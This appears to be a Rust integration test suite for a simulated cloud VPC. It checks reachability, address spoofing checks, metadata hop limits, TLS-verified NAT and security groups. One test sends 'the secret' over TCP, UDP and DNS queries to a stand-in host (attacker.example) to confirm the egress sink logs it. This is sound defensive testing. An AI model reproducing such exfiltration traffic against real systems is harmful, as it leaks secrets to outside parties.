//! What the network carries and what it drops. Needs root.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

mod common;

use std::{
    io::{Read, Write},
    net::{IpAddr, SocketAddr},
    process::Command,
    time::Duration,
};

use common::{
    SILENCE, Vpc, connect, datagram,
    dns::{addresses, ask},
    ec2::{Client, Metadata},
    echo_server, echoes, http, ip, link_mac,
};
use hickory_proto::rr::RecordType;
use turnpike_vpc::{fabric::isolation, internet::Event, netns::Namespace};

fn at(address: impl Into<IpAddr>, port: u16) -> SocketAddr {
    SocketAddr::new(address.into(), port)
}

#[test]
fn instances_reach_each_other_within_and_across_subnets() {
    let vpc = Vpc::start("reach");
    let (a, b) = (vpc.namespace("node-a"), vpc.namespace("node-b"));
    for name in ["control", "node-b"] {
        let (instance, namespace) = (vpc.instance(name), vpc.namespace(name));
        let v6: IpAddr = instance.ipv6.as_ref().unwrap().parse().unwrap();
        for to in [at(instance.address, 7), at(v6, 7)] {
            echo_server(&namespace, to);
            assert!(
                echoes(&mut connect(&a, None, to).unwrap()),
                "node-a to {to}"
            );
        }
    }
    let back = at(vpc.instance("node-a").address, 7);
    echo_server(&a, back);
    let mut stream = connect(&b, None, back).unwrap();
    assert!(echoes(&mut stream));
    assert_eq!(
        stream.local_addr().unwrap().ip(),
        vpc.instance("node-b").address
    );
}

#[test]
fn only_assigned_addresses_pass_and_an_unassigned_one_is_cut_off() {
    let vpc = Vpc::start("assigned");
    let client = Client::new(&vpc, "node-a");
    let eni = client.primary(&vpc.instance("node-a").id);
    let given = client.assign(&eni, 1);
    let assigned: IpAddr = given[0].parse().unwrap();
    let stranger: IpAddr = "10.0.3.3".parse().unwrap();
    let pod = vpc.pod("node-a", "pod", &[assigned]);
    ip(&format!(
        "-n {} addr add {stranger}/32 dev eth0",
        pod.name()
    ));
    ip(&format!(
        "-n {} route add {stranger}/32 dev pod3",
        vpc.instance("node-a").namespace
    ));

    let server = at(vpc.instance("node-b").address, 7);
    echo_server(&vpc.namespace("node-b"), server);
    let mut stream = connect(&pod, Some(assigned), server).unwrap();
    assert!(echoes(&mut stream), "an assigned address does not pass");
    assert!(connect(&pod, Some(stranger), server).is_err());
    let attacker = IpAddr::from([203, 0, 113, 66]);
    assert!(vpc.escapes(&pod, assigned, attacker));
    assert!(
        !vpc.escapes(&pod, stranger, attacker),
        "an address that EC2 never gave passes"
    );
    // The other way: to the pod, from outside.
    let own = at(assigned, 8);
    echo_server(&pod, own);
    assert!(echoes(
        &mut connect(&vpc.namespace("control"), None, own).unwrap()
    ));

    let unassign = [
        ("NetworkInterfaceId", eni.as_str()),
        ("PrivateIpAddress.1", &given[0]),
    ];
    client.call("UnassignPrivateIpAddresses", &unassign).ok();
    assert!(
        !echoes(&mut stream),
        "an open connection outlived its address"
    );
    assert!(
        connect(&vpc.namespace("control"), None, own).is_err(),
        "still reached"
    );

    assert!(
        !vpc.escapes(&pod, assigned, attacker),
        "an address that was taken away passes"
    );

    let check = |on: &str| {
        let params = [
            ("NetworkInterfaceId", eni.as_str()),
            ("SourceDestCheck.Value", on),
        ];
        client.call("ModifyNetworkInterfaceAttribute", &params).ok();
    };
    check("false");
    assert!(
        vpc.escapes(&pod, stranger, attacker),
        "the check is off, and still it is made"
    );
    check("true");
    assert!(!vpc.escapes(&pod, stranger, attacker));
}

#[test]
fn ipv6_is_checked_too() {
    let vpc = Vpc::start("six");
    let prefix = vpc.instance("node-a").ipv6_prefix.as_ref().unwrap();
    let own: IpAddr = prefix.replace(":/80", ":5").parse().unwrap();
    let stranger: IpAddr = "2001:db8:100::dead".parse().unwrap();
    let pod = vpc.pod("node-a", "pod6", &[own]);
    ip(&format!(
        "-n {} addr add {stranger}/128 dev eth0 nodad",
        pod.name()
    ));
    ip(&format!(
        "-n {} route add {stranger}/128 dev pod4",
        vpc.instance("node-a").namespace
    ));
    let attacker = at("2001:db8:113::66".parse::<IpAddr>().unwrap(), 4444);
    let mut stream = connect(&pod, Some(own), attacker).unwrap();
    stream.write_all(b"out").unwrap();
    let open = vpc.logged("the pod over IPv6", |r| {
        r.protocol == "tcp" && r.port == 4444
    });
    assert_eq!(open.peer.ip(), own, "IPv6 is not translated");
    assert!(connect(&pod, Some(stranger), attacker).is_err());
    assert!(vpc.escapes(&pod, own, attacker.ip()));
    assert!(
        !vpc.escapes(&pod, stranger, attacker.ip()),
        "an address that EC2 never gave passes"
    );
}

#[test]
fn metadata_reaches_a_node_and_no_pod_behind_it() {
    let near = "{name: node-a, type: m5.large, subnet: subnet-0a, forwarding: true}";
    let far =
        "{name: node-a, type: m5.large, subnet: subnet-0a, forwarding: true, metadataHopLimit: 2}";
    for (name, changes, reached) in [("hop1", vec![], false), ("hop2", vec![(near, far)], true)] {
        let vpc = Vpc::replacing(name, &changes);
        let client = Client::new(&vpc, "node-a");
        let eni = client.primary(&vpc.instance("node-a").id);
        let address: IpAddr = client.assign(&eni, 1)[0].parse().unwrap();
        let pod = vpc.pod("node-a", "pod", &[address]);
        // The pod reaches what else the router serves.
        let resolver = vpc.ready.resolver;
        assert!(!addresses(&ask(&pod, resolver, "partner.example.", RecordType::A)).is_empty());
        let metadata = Metadata::new(pod.clone());
        assert_eq!(
            connect(&pod, None, metadata.address).is_ok(),
            reached,
            "{name}"
        );
        assert!(
            Metadata::new(vpc.namespace("node-a"))
                .get("meta-data/instance-id")
                .is_some()
        );
    }
}

fn curl(vpc: &Vpc, from: &str, arguments: &[&str]) -> Result<serde_json::Value, String> {
    let mut command = Command::new("ip");
    command.args([
        "netns",
        "exec",
        &vpc.instance(from).namespace,
        "curl",
        "-sS",
        "--cacert",
    ]);
    let output = command
        .arg(&vpc.ready.root)
        .args(arguments)
        .output()
        .unwrap();
    serde_json::from_slice(&output.stdout)
        .map_err(|_| String::from_utf8_lossy(&output.stderr).into_owned())
}

#[test]
fn https_to_the_internet_is_translated_verified_and_logged() {
    let vpc = Vpc::start("nat");
    let resolve = ["--resolve", "api.payments.example:443:203.0.113.10"];
    let url = "https://api.payments.example/v1/charges?x=1";
    let said = curl(
        &vpc,
        "node-a",
        &[&resolve[..], &["-d", "12345", url]].concat(),
    )
    .unwrap();
    assert_eq!(said["host"], "api.payments.example");
    assert_eq!(said["method"], "POST");
    assert_eq!(said["path"], "/v1/charges?x=1");
    assert_eq!(said["bodyBytes"], 5);
    assert_eq!(said["tls"]["sni"], "api.payments.example");
    assert!(
        said["peer"].as_str().unwrap().starts_with("198.51.100.1:"),
        "{said}"
    );
    let closed = vpc.logged("the connection's end", |r| r.event == Event::Close);
    assert_eq!(closed.name.as_deref(), Some("api.payments.example"));
    assert!(
        closed.first.starts_with("1603"),
        "not a ClientHello: {}",
        closed.first
    );

    // A name that the certificate does not hold.
    let lie = ["--resolve", "api.payments.example:443:203.0.113.66", url];
    let error = curl(&vpc, "node-a", &lie).unwrap_err();
    assert!(
        error.contains("certificate") || error.contains("SSL"),
        "{error}"
    );
    let seen = vpc.logged("the attacker's ClientHello", |r| {
        r.host == "attacker.example" && r.event == Event::Close
    });
    assert_eq!(seen.name.as_deref(), Some("api.payments.example"));
}

#[test]
fn whatever_leaves_is_heard_on_every_port_and_address() {
    let vpc = Vpc::start("sink");
    let node = vpc.namespace("node-a");
    let attacker6: IpAddr = "2001:db8:113::66".parse().unwrap();
    for (address, host) in [
        ("203.0.113.66".parse().unwrap(), "attacker.example"),
        (attacker6, "attacker.example"),
        ("203.0.113.10".parse().unwrap(), "api.payments.example"),
        ("9.9.9.9".parse().unwrap(), "9.9.9.9"),
    ] {
        let mut stream = connect(&node, None, at(address, 31_337)).unwrap();
        stream.write_all(b"the secret").unwrap();
        let mut heard = [0; 3];
        stream.read_exact(&mut heard).unwrap();
        drop(stream);
        let closed = vpc.logged("TCP", |r| {
            r.host == host && r.event == Event::Close && r.port == 31_337 && r.address == address
        });
        assert_eq!(
            (closed.bytes, closed.first.as_str()),
            (10, "74686520736563726574")
        );
        datagram(&node, None, at(address, 1234), b"udp secret");
        let datagram = vpc.logged("UDP", |r| {
            r.host == host && r.protocol == "udp" && r.port == 1234 && r.address == address
        });
        assert_eq!(datagram.bytes, 10);
    }
    // The attacker's own name server answers, and is seen to be asked also through the resolver.
    let own = at([203, 0, 113, 66], 53);
    let answer = ask(&node, own, "stolen.data.attacker.example.", RecordType::A);
    assert_eq!(addresses(&answer), [IpAddr::from([203, 0, 113, 66])]);
    let _ = ask(
        &node,
        vpc.ready.resolver,
        "also-stolen.attacker.example.",
        RecordType::TXT,
    );
    vpc.logged("the question", |r| {
        r.protocol == "dns" && r.name.as_deref() == Some("also-stolen.attacker.example TXT")
    });
}

#[test]
fn a_box_is_sealed_and_an_opening_is_found() {
    let vpc = Vpc::start("sealed");
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let cidr = vpc.ready.cidr.parse().unwrap();
    let mut all = vpc.namespaces();
    let prove = |all: &[Namespace]| runtime.block_on(isolation::prove(&vpc.router(), all, cidr));
    prove(&all).unwrap();
    let pod = vpc.pod("node-a", "pod", &[]);
    let error = prove(&all).unwrap_err().to_string();
    assert!(
        error.contains("pod3") && error.contains("node-a"),
        "{error}"
    );
    all.push(pod);
    prove(&all).unwrap();
    // A link to the machine, in a namespace of the list.
    let node = &vpc.instance("node-a").namespace;
    ip(&format!(
        "link add tpt-leak type veth peer name leak netns {node}"
    ));
    let error = prove(&all).unwrap_err().to_string();
    ip("link del tpt-leak");
    assert!(error.contains("leak"), "{error}");
    prove(&all).unwrap();
}

#[test]
fn security_groups_are_kept_both_ways_and_by_connection() {
    let open = "ingress: [{cidrs: [10.0.0.0/16, \"2001:db8:100::/56\"]}]";
    let closed = "ingress: [{cidrs: [10.0.0.0/18], protocol: tcp, ports: [80, 90]}]";
    let everywhere = "egress: [{cidrs: [0.0.0.0/0, \"::/0\"]}]";
    let narrow = "egress: [{cidrs: [10.0.0.0/16]}]";
    let vpc = Vpc::replacing("groups", &[(open, closed), (everywhere, narrow)]);
    let (a, b) = (vpc.namespace("node-a"), vpc.namespace("node-b"));
    let address = vpc.instance("node-b").address;
    for port in [80, 90, 91] {
        echo_server(&b, at(address, port));
    }
    assert!(echoes(&mut connect(&a, None, at(address, 80)).unwrap()));
    assert!(echoes(&mut connect(&a, None, at(address, 90)).unwrap()));
    assert!(
        connect(&a, None, at(address, 91)).is_err(),
        "a port that no rule opens"
    );
    // node-b's subnet is not in the rule.
    let own = at(vpc.instance("node-a").address, 80);
    echo_server(&a, own);
    assert!(connect(&b, None, own).is_err(), "a source that no rule has");
    assert!(
        connect(&a, None, at([203, 0, 113, 10], 80)).is_err(),
        "egress beyond the rule"
    );
    std::thread::sleep(SILENCE);
    assert!(vpc.internet_log().is_empty());
    // Metadata, the resolver and the API are not subject to groups.
    assert!(Metadata::new(a).get("meta-data/mac").is_some());
}

#[test]
fn an_interface_is_plugged_into_a_running_instance_and_out_again() {
    let vpc = Vpc::start("plug");
    let (a, b) = (vpc.namespace("node-a"), vpc.namespace("node-b"));
    let client = Client::new(&vpc, "node-a");
    let id = client.create(&[
        ("SubnetId", "subnet-0a"),
        ("SecondaryPrivateIpAddressCount", "1"),
    ]);
    let attach = [
        ("NetworkInterfaceId", id.as_str()),
        ("InstanceId", &vpc.instance("node-a").id),
        ("DeviceIndex", "1"),
    ];
    client.call("AttachNetworkInterface", &attach).ok();
    let answer = client.settled(&id, "attached");
    assert_eq!(
        a.run(|| link_mac("eth1")).unwrap(),
        answer.get("macAddress").unwrap()
    );

    // As an agent sets it up: the address and a table of its own.
    let addresses = answer.all("privateIpAddress");
    let (primary, secondary) = (&addresses[0], addresses.last().unwrap());
    let node = &vpc.instance("node-a").namespace;
    ip(&format!("-n {node} link set eth1 up mtu 9001"));
    ip(&format!("-n {node} addr add {secondary}/32 dev eth1"));
    ip(&format!(
        "-n {node} route add 10.0.0.1 dev eth1 scope link table 2"
    ));
    ip(&format!(
        "-n {node} route add default via 10.0.0.1 dev eth1 table 2"
    ));
    ip(&format!(
        "-n {node} rule add from {secondary} lookup 2 pref 1536"
    ));
    let server = at(vpc.instance("node-b").address, 7);
    echo_server(&b, server);
    let source = secondary.parse().unwrap();
    let mut stream = connect(&a, Some(source), server).unwrap();
    assert!(
        echoes(&mut stream),
        "through eth1 from {secondary} (primary {primary})"
    );
    // The same address by the other interface is a spoofed one.
    ip(&format!("-n {node} rule del pref 1536"));
    assert!(
        connect(&a, Some(source), server).is_err(),
        "passed by the wrong interface"
    );

    let attachment = answer.get("attachmentId").unwrap();
    client
        .call("DetachNetworkInterface", &[("AttachmentId", &attachment)])
        .ok();
    client.settled(&id, "available");
    let links = a
        .run(|| Command::new("ip").args(["-o", "link"]).output())
        .unwrap()
        .unwrap();
    assert!(
        !String::from_utf8_lossy(&links.stdout).contains("eth1"),
        "still plugged in"
    );
    client
        .call("DeleteNetworkInterface", &[("NetworkInterfaceId", &id)])
        .ok();
}

#[test]
fn plain_http_answers_for_every_host_and_a_slow_peer_harms_nobody() {
    let vpc = Vpc::start("http");
    let node = vpc.namespace("node-b");
    let partner = at([203, 0, 113, 20], 80);
    let mut slow = connect(&node, None, partner).unwrap();
    slow.write_all(b"GET / HT").unwrap();
    let mut garbage = connect(&node, None, partner).unwrap();
    garbage.write_all(&[0xff; 4096]).unwrap();
    let get = |path: &str| {
        let request =
            format!("GET {path} HTTP/1.1\r\nHost: partner.example\r\nConnection: close\r\n\r\n");
        http(&node, partner, &request).unwrap()
    };
    assert_eq!(get("/status/418").0, 418);
    assert_eq!(get("/bytes/200000").1.len(), 200_000);
    assert!(get("/delay/1").1.contains("partner.example"));
    slow.set_read_timeout(Some(Duration::from_millis(1)))
        .unwrap();
    drop((slow, garbage));
}
